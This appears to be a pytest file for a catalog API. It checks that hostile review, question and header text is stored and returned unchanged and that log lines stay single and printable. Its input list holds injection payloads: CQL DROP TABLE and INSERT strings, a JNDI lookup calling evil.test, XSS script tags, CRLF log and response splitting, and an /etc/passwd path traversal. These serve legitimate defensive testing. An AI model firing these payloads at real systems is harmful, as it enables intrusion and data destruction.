"""Text that means something elsewhere is only text here: stored, returned, never interpreted."""

import json
import logging
from urllib.parse import quote

import orjson
import pytest

from catalog_api.logs import JsonFormatter
from catalog_api.settings import ApiSettings
from ring import RingSettings
from tests.support.api import RunningApi, running_catalog
from tests.support.stored_catalog import CatalogProduct, plain_product

CATALOG = (CatalogProduct(plain_product(1)),)
TEXTS = [
    "'; DROP TABLE reviews_by_product; --",
    "1); INSERT INTO products_by_id (product_id) VALUES (7); //",
    "$$ ? :name %s %(name)s {0} ${jndi:ldap://evil.test/a}",
    "<script>alert('x')</script><img src=x onerror=alert(1)> &amp; &lt;",
    'line\r\n{"event":"log","level":"error","message":"forged"}\r\n\r\nHTTP/1.1 200 OK',
    "\x1b[2J\x1b]0;title\x07\b\x7f\x85 bell and escape",
    "😀👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 ünïcödé",
    "\u202eright to left\u202c \u2066isolated\u2069 עברית العربية",
    "e\u0301 \u00e9 \u0041\u030a \u212b ﷺ Z\u0335\u0321\u0322a\u0336l\u0321g\u0322o\u0327",
    "\ufeffmark \u200b\u2060 \u2028\u2029 \ufffd \uffff \U0010ffff",
    "../../etc/passwd %00 %2e%2e%2f \\u0000 \\x00 \\",
    "true",
    "null",
    " ",
    "x" * 1_000,
]


async def _post(api: RunningApi, document: dict[str, object], *, escaped: bool) -> None:
    """Post a review, its text as UTF-8 or spelt by escapes only."""
    data = json.dumps(document, ensure_ascii=escaped).encode()
    headers = {"Content-Type": "application/json"}
    async with api.client.post("/reviews", data=data, headers=headers) as response:
        assert response.status == 201, document


async def test_text_when_it_means_something_elsewhere_then_it_is_returned_unchanged(
    ring_settings: RingSettings, capfd: pytest.CaptureFixture[str]
) -> None:
    """CQL, HTML, log lines, marks and emoji, in every field, in JSON and in forms."""
    settings = ApiSettings(log_sample=1.0, max_page_rows=1_000)
    async with running_catalog(ring_settings, CATALOG, settings) as api:
        common = {"product_id": 1, "rating": 3, "recommend": True, "characteristics": {}}
        for text in TEXTS:
            words = dict.fromkeys(("summary", "body", "name", "email"), text)
            for escaped in (False, True):
                document = {**common, **words, "photos": [text]}
                await _post(api, document, escaped=escaped)
            question = dict.fromkeys(("body", "name", "email"), text) | {"product_id": 1}
            async with api.client.post("/qa/questions", data=question) as response:
                assert response.status == 201, text
        async with api.client.get("/reviews?product_id=1&count=1000&sort=newest") as response:
            reviews = orjson.loads(await response.read())["results"]
        for key in ("summary", "body", "reviewer_name"):
            found = [one[key] for one in sorted(reviews, key=lambda one: one["review_id"])]
            assert found == [text for text in TEXTS for _ in range(2)], key
        assert {one["photos"][0]["url"] for one in reviews} == set(TEXTS)
        async with api.client.get("/qa/questions?product_id=1&count=1000") as response:
            questions = orjson.loads(await response.read())["results"]
        found = [
            one["question_body"] for one in sorted(questions, key=lambda one: one["question_id"])
        ]
        assert found == TEXTS
    out, err = capfd.readouterr()
    for text in TEXTS[:-4]:
        assert text not in out + err


async def test_targets_when_they_hold_control_characters_then_log_lines_stay_whole(
    ring_settings: RingSettings,
    capfd: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Paths, queries and headers with such text: each request is one line of ASCII JSON."""
    settings = ApiSettings(log_sample=1.0)
    async with running_catalog(ring_settings, CATALOG, settings) as api:
        targets = 0
        for text in TEXTS:
            for path in (f"/products/{quote(text, safe='')}", f"/products?page={quote(text)}"):
                raw = (
                    f"GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n"
                    f"User-Agent: {_header(text)}\r\nX-Request-Id: {_header(text)}\r\n"
                    f"Authorization: {_header(text)}\r\nAccept: {_header(text)}\r\n\r\n"
                )
                answer = await api.exchange(raw.encode("utf-8", "surrogateescape"))
                # An id that begins with digits is read by them: `1); …` is product 1.
                assert answer[9:10] == (b"2" if text[0] == "1" and "?" not in path else b"4"), text
                head = answer.partition(b"\r\n\r\n")[0]
                assert head.isascii()
                targets += 1
    out, _ = capfd.readouterr()
    assert out.isascii()
    lines = [orjson.loads(line) for line in out.splitlines()]
    assert {line["event"] for line in lines} == {"request"}
    assert len([line for line in lines if line["target"] != "/healthz"]) == targets
    formatter = JsonFormatter()
    for record in caplog.records:
        assert formatter.format(record).isprintable()


def _header(text: str) -> str:
    """Return what of the text a header can hold."""
    return "".join(character for character in text if character >= " " and character != "\x7f")


@pytest.mark.parametrize("text", [*TEXTS, "\udc80 no text at all"])
def test_log_line_when_its_message_holds_any_text_then_it_is_one_printable_line(text: str) -> None:
    """What a message holds stands escaped in it, and can be read back."""
    record = logging.LogRecord("a", logging.ERROR, __file__, 1, "it was %s", (text,), None)
    line = JsonFormatter().format(record)
    assert line.isascii()
    assert line.isprintable()
